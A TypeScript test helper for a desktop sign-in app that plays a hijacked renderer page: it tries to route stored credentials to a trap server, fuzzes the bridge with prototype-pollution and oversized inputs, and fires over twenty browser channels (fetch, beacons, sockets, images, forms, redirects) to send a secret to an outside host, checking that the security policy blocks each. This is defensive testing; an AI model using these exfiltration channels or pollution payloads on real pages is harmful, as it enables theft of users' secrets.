/**
 * What whoever runs in the page would do with it: calls with garbage and with what is valid, and every
 * way in which a page can send something out. The functions travel to the page as text.
 */
import type { CommandName, Input } from '../../src-shared/contract.ts';

/** One call, as the page makes it. */
export type Order = readonly [name: unknown, input: unknown];

interface Taken {
  bridge: { call(...args: unknown[]): Promise<unknown> };
}
declare const globalThis: Taken & typeof global;

/** Where a page that was taken over would like secrets to go. */
export interface Targets {
  readonly profile: string;
  readonly userName: string;
  /** Takes requests and answers nothing useful: nothing may ever come here. */
  readonly trap: string;
  /** A server of the page's own, with an account of its own. */
  readonly own: { readonly url: string; readonly userName: string; readonly orgId: string };
  /** The user's own server. */
  readonly users: string;
}

const local = (url: string) => ({ kind: 'local', url }) as const;
type Orders = readonly { [N in CommandName]: readonly [N, Input<N>] }[CommandName][];

/** Valid calls that leave the session as it is. With empty fields, kept secrets are asked for. */
export function harmless({ profile, userName, trap, users }: Targets): Orders {
  const empty = { password: '', devKey: '' };
  const form = { profile, userName, orgId: '00801', ...empty };
  return [
    ['getSnapshot', {}],
    ['getExchange', { id: 1 }],
    ['previewDiagnostics', {}],
    ['saveDiagnostics', {}],
    ['getNotices', {}],
    ['exportProfiles', {}],
    ['importProfiles', {}],
    ['retryStorage', {}],
    ['restart', {}],
    ['dismissNotice', { kind: 'launchStopped' }],
    ['repeatOperation', { profile, operation: 'inviteVendor' }],
    ['openLink', { link: 'authentication' }],
    ['changeSettings', { touchMinutes: 10 }],
    ['setStartAtLogin', { on: false }],
    ['selectProfile', { profile }],
    ['editProfile', { profile, change: { name: 'Taken', colour: 'blue' } }],
    ['moveProfile', { profile, to: 0 }],
    ['nameMachine', { profile, machineName: 'Taken' }],
    ['keepSignIn', { profile, what: 'everything' }],
    ['copySessionId', { profile }],
    ['dropOldCopies', { profile }],
    ['copyFact', { profile, fact: 'organizationId' }],
    ['checkTrust', { profile }],
    ['tryOperation', { profile, operation: 'inviteVendor', body: '{"planted":1}' }],
    ['sendMfaCode', { profile }],
    ['submitMfaCode', { profile, code: '000000', rememberDevice: false }],
    ['extendNow', { profile }],
    ['pauseKeepAlive', { profile, ms: null }],
    // Kept secrets to a server of the page's choice, in each way that there is.
    ['signIn', { ...form, server: local(trap) }],
    ['signIn', { ...form, devKey: 'OF-THE-PAGE', server: local(trap) }],
    ['signIn', { ...form, password: 'of-the-page', server: local(trap) }],
    ['signIn', { ...form, server: local(users.replace('127.0.0.1', 'localhost')) }],
    ['signIn', { ...form, server: local(`${users}/../..`) }],
    ['signIn', { ...form, userName: 'somebody@else.example', server: local(users) }],
    ['useSession', { profile, server: local(trap), sessionId: 'of-the-page', devKey: '' }],
    ['findOrganizations', { profile, userName, ...empty, server: local(trap) }],
  ];
}

/** What changes or ends something, in an order in which each still has something to act on. */
export function destructive({ profile, userName, trap, own }: Targets): Orders {
  const empty = { password: '', devKey: '' };
  const typed = { userName: own.userName, password: 'of-the-page', devKey: 'OF-THE-PAGE' };
  const server = local(own.url);
  return [
    ['createProfile', {}],
    ['duplicateProfile', { profile }],
    ['cancelSignIn', { profile }],
    ['resume', { profile }],
    ['forgetDevice', { profile }],
    ['signOut', { profile }],
    // A session of a server of the page's own makes that server the profile's …
    ['useSession', { profile, server, sessionId: 'of-the-page', devKey: 'OF-THE-PAGE' }],
    ['signOut', { profile }],
    // … but what was kept is not for it.
    ['signIn', { profile, userName, orgId: own.orgId, ...empty, server }],
    ['findOrganizations', { profile, server, userName, ...empty }],
    ['useSession', { profile, server, sessionId: 'of-the-page', devKey: '' }],
    ['signIn', { profile, orgId: own.orgId, ...typed, server }],
    ['signOut', { profile }],
    ['signIn', { profile, userName, orgId: own.orgId, ...empty, server: local(trap) }],
    ['keepSignIn', { profile, what: 'nothing' }],
    ['forgetProfile', { profile }],
    ['renewVault', {}],
    ['wipeEverything', {}],
  ];
}

/** The commands that the two lists call: the whole contract, or a test fails. */
export const commandsOf = (orders: readonly Order[]): ReadonlySet<unknown> =>
  new Set(orders.map(([name]) => name));

/** Makes calls one after the other. Runs in the page. */
export async function callAll(orders: readonly Order[]): Promise<unknown[]> {
  const answers: unknown[] = [];
  for (const [name, input] of orders) {
    try {
      answers.push(await globalThis.bridge.call(name, input));
    } catch (error) {
      answers.push({ thrown: String(error) });
    }
  }
  return answers;
}

/** Garbage to each command, and to names that are none. Runs in the page. */
export function callWithGarbage([names, profile]: readonly [string[], string]): Promise<unknown[]> {
  const circle: Record<string, unknown> = {};
  circle['self'] = circle;
  const garbage: unknown[] = [
    ...[
      undefined,
      null,
      '',
      0,
      [],
      circle,
      JSON.parse('{"a":'.repeat(500) + '1' + '}'.repeat(500)) as unknown,
    ],
    JSON.parse('{"__proto__":{"polluted":1},"profile":"first"}') as unknown,
    { profile: '__proto__' },
    ...[{ profile, constructor: { prototype: { polluted: 1 } } }],
    ...[{ profile, more: 'x'.repeat(100_000) }, new Map([['profile', profile]])],
    ...[
      new Uint8Array(1000),
      { link: 'https://evil.example/', id: -1, code: '00000x', body: '[]' },
    ],
  ];
  const strange = ['constructor', '__proto__', 'toString', 'sessionId', 'getSecrets', '', '*'];
  const orders = [
    ...names.map((name, at) => [name, garbage[at % garbage.length]]),
    ...garbage.map((input, at) => [names[(at * 5) % names.length], input]),
    ...garbage.map((name) => [name, {}]),
    ...strange.map((name) => [name, { profile }]),
  ];
  return Promise.all(
    orders.map(([name, input]) =>
      globalThis.bridge.call(name, input).catch((error: unknown) => ({ thrown: String(error) })),
    ),
  );
}

/**
 * Tries every way out of the page with `secret`, to `target` (http://host:port). Resolves to the
 * directives of the policy that stopped something. Runs in the page.
 */
export async function sendOut([target, secret]: readonly [string, string]): Promise<string[]> {
  const stopped = new Set<string>();
  document.addEventListener('securitypolicyviolation', (event) => {
    stopped.add(event.effectiveDirective);
  });
  const to = (way: string) => `${target}/${way}?${encodeURIComponent(secret)}`;
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const ways: (() => unknown)[] = [
    () => fetch(to('fetch'), { mode: 'no-cors', method: 'POST', body: secret }),
    () => navigator.sendBeacon(to('beacon'), secret),
    () => new WebSocket(to('socket').replace('http', 'ws')),
    () => new EventSource(to('events')),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'));
      request.send();
    },
    () => add('img', { src: to('image') }),
    () => add('video', { src: to('video') }),
    () => add('object', { data: to('object') }),
    () => add('iframe', { src: to('frame') }),
    () => add('link', { rel: 'stylesheet', href: to('style') }),
    () => add('link', { rel: 'prefetch', href: to('prefetch') }),
    () => add('link', { rel: 'preconnect', href: target }),
    () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${to('refresh')}` }),
    () => add('base', { href: to('base') }),
    () => add('script', { src: to('script') }),
    () => new Worker(to('worker')),
    () => new FontFace('taken', `url(${to('font')})`).load(),
    () => void (document.body.style.backgroundImage = `url(${to('css')})`),
    () => (add('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
    () => (add('a', { href: to('ping'), ping: to('ping') }) as HTMLAnchorElement).click(),
    () => window.open(to('open')),
    () => void (location.href = to('location')),
  ];
  for (const way of ways) {
    try {
      await Promise.resolve(way()).catch(() => undefined);
    } catch {
      // Refused at once: what was asked for.
    }
    // One navigation must not take the next one's place.
    await new Promise((resolve) => setTimeout(resolve, 30));
  }
  // Chromium tells of a breach after the fact: until it has told nothing new for a while.
  for (let told = -1; told !== stopped.size;) {
    told = stopped.size;
    await new Promise((resolve) => setTimeout(resolve, 1000));
  }
  return [...stopped].sort();
}
